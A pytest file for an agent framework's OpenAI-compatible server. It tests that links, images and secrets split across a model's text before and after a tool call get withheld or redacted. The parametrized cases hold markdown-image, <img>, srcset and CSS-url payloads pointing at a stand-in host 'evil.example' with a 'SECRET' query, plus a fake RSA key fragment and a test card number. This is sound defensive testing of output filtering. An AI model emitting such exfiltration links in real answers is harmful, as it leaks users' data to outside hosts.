"""What a model says before and behind a call is one text to clients of OpenAI's, and judged so."""

import asyncio
import json
from typing import Any

import pytest
from tests.interfaces.openai.desk import WAIT_S, served
from tests.labels import OWN

from jackline import Agent, User, tool
from jackline.core.messages import Text, ToolCall
from jackline.interfaces.openai.joining import Joint
from jackline.testing import ScriptedModel
from jackline.testing.model import Pace

EVIL = "//evil.example/x?d=SECRET"
NAMED = "https://good.example/page"


@tool(effect="read", labels=OWN)
def look() -> str:
    """Look."""
    return "page"


@tool(effect="once", approve=True, labels=OWN)
def note(text: str) -> str:
    """Note."""
    return text


def saying(first: str, second: str, name: str = "a") -> Agent:
    script = [[Text(first), ToolCall("look", "{}")], second]
    return Agent(name, ScriptedModel(script, pace=Pace(delta=3)), tools=[look, note])


async def told(agent: Agent, said: str = "Hi") -> tuple[str, str, str, str]:
    """Return what an agent says, as chats and responses, streamed and not, put it together."""
    texts = list[str]()
    messages: Any = [{"role": "user", "content": said}]
    async with asyncio.timeout(WAIT_S), served(agent) as desk, desk.client() as client:
        chat, name = client.chat.completions, agent.name
        done = await chat.create(model=name, messages=messages)
        texts.append(done.choices[0].message.content or "")
        chunks = await chat.create(model=name, messages=messages, stream=True)
        texts.append("".join([each.choices[0].delta.content or "" async for each in chunks]))
        response = await client.responses.create(model=name, input=said)
        texts.append(response.output_text)
        events = await client.responses.create(model=name, input=said, stream=True)
        pieces = [e.delta async for e in events if e.type == "response.output_text.delta"]
        texts.append("".join(pieces))
        again = await client.responses.retrieve(response.id)
        assert again.output_text == response.output_text
    return texts[0], texts[1], texts[2], texts[3]


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ('Here:\n\n<pre>\n<img src="', f'{EVIL}">\n</pre>'),
        ("Here:\n\n<pre>\n<img src='/", f"{EVIL[1:]}'>\n</pre>"),
        ("Here: ![x](", f"{EVIL})"),
        ('<p style="background:url(', f'{EVIL})">'),
    ],
)
def test_what_leads_away_only_together_is_withheld(first: str, second: str) -> None:
    texts = asyncio.run(told(saying(first, second)))
    for text in texts:
        assert text.startswith(first)
        assert "evil.example" not in text
        assert "#link-withheld" in text
    assert texts[0] == texts[1]
    assert texts[2] == texts[3]


def test_what_is_one_word_only_without_anything_between_is_taken_out_of_responses() -> None:
    texts = asyncio.run(told(saying("It is 4111 1111", " 1111 1111, I think.")))
    for text in texts[2:]:
        assert "1111 1111, I" not in text
        assert text.startswith("It is 4111 1111[redacted:card]")


KEY = "MIIEpAIBAAKCAQEA7Vx9bQ\nab0d+/==\n-----END RSA PRIVATE KEY-----\n"


@pytest.mark.parametrize("second", ["Done.", "InvalidKeySpecException is what Java says.", "Ok"])
def test_what_is_said_behind_a_private_key_stays(second: str) -> None:
    first = f"Its key:\n-----BEGIN RSA PRIVATE KEY-----\n{KEY.strip()}"
    for text in asyncio.run(told(saying(first, second))):
        assert "MIIE" not in text
        assert text.endswith(second)


def test_what_began_in_two_texts_goes_on_in_the_third() -> None:
    joint = Joint(None, User("ann", "acme"), "")
    shown, heard = list[str](), list[str]()
    for text in ("-----BEGIN RSA PRIV", "ATE KEY-----\nMIIE", f"pAIBAAKCAQ\n{KEY}Done."):
        behind = joint.behind(shown, heard)
        shown.append(behind.feed(text) + behind.finish() if behind else text)
        heard.append(text)
    assert shown == ["-----BEGIN RSA PRIV", "[redacted:private-key]", "\nDone."]


def test_what_is_harmless_by_itself_and_together_stays_to_the_letter() -> None:
    first = f"I look at {NAMED} (and [here]({NAMED})):\n\n```html\n<img src='a.png'>\n```"
    second = f"\nSee {NAMED}, ann@shop.example, order 12345 and ![it]({NAMED}). `a//b`\n\n| 1 | 2 |"
    texts = asyncio.run(told(saying(first, second), f"Look at {NAMED}"))
    assert texts[0] == texts[1] == f"{first}\n\n{second}"
    assert texts[2] == texts[3] == first + second


@pytest.mark.parametrize(
    ("opened", "text"),
    [
        ('<pre>\n<img srcset="a 1x, ', f", {EVIL} 2x, "),
        ("```\nSo:", f"![x]({EVIL})"),
        ("~~~~\nSo:", f"~~~~ ![x]({EVIL})"),
    ],
)
def test_a_card_leads_nowhere_as_a_part_of_what_was_said_before(opened: str, text: str) -> None:
    call = ToolCall("note", json.dumps({"text": text}))
    agent = Agent("a", ScriptedModel([[Text(opened), call], "Noted."]), tools=[note])
    shown, again = list[str](), list[str]()

    async def run() -> None:
        hi: Any = [{"role": "user", "content": "Hi"}]
        async with asyncio.timeout(WAIT_S), served(agent) as desk, desk.client() as client:
            raw = await client.chat.completions.with_raw_response.create(model="a", messages=hi)
            head = {"X-Jackline-Session": raw.headers["X-Jackline-Session"]}
            shown.append(raw.parse().choices[0].message.content or "")
            for said in shown, again:
                asked: Any = [
                    *hi,
                    {"role": "assistant", "content": said[-1] if said else again[-1]},
                    {"role": "user", "content": "approve"},
                ]
                done = await client.chat.completions.create(
                    model="a", messages=asked, extra_headers=head
                )
                again.append(done.choices[0].message.content or "")

    asyncio.run(run())
    assert EVIL not in shown[0]
    assert "question" in shown[0]
    assert EVIL in again[0], "alone it is exact"
    assert again[1] == "Noted."


def test_a_card_behind_words_is_exact() -> None:
    call = ToolCall("note", json.dumps({"text": f"See {EVIL}"}))
    agent = Agent("a", ScriptedModel([[Text("I ask:"), call], "Noted."]), tools=[note])

    async def run() -> None:
        hi: Any = [{"role": "user", "content": "Hi"}]
        async with asyncio.timeout(WAIT_S), served(agent) as desk, desk.client() as client:
            done = await client.chat.completions.create(model="a", messages=hi)
            content = done.choices[0].message.content or ""
            assert content.startswith("I ask:\n\nI have to ask")
            assert EVIL in content

    asyncio.run(run())
